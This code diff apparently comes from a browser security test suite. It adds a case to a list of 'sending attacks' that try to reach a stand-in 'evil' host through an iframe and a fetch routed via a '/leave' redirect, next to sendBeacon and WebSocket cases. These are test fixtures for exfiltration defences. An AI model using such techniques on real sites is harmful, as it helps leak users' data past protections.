@@ -26,6 +26,15 @@ export const sendingAttacks: readonly Attack[] = [
         request.send();
       }),
   },
+  {
+    name: 'the page on the way out',
+    run: (evil) => {
+      const frame = document.createElement('iframe');
+      frame.src = `/leave?to=http://${evil}/frame`;
+      document.body.append(frame);
+      return fetch(`/leave?to=http://${evil}/leave`).then(({ status }) => status, String);
+    },
+  },
   { name: 'beacon', run: (evil) => navigator.sendBeacon(`http://${evil}/beacon`, 'x') },
   {
     name: 'WebSocket',
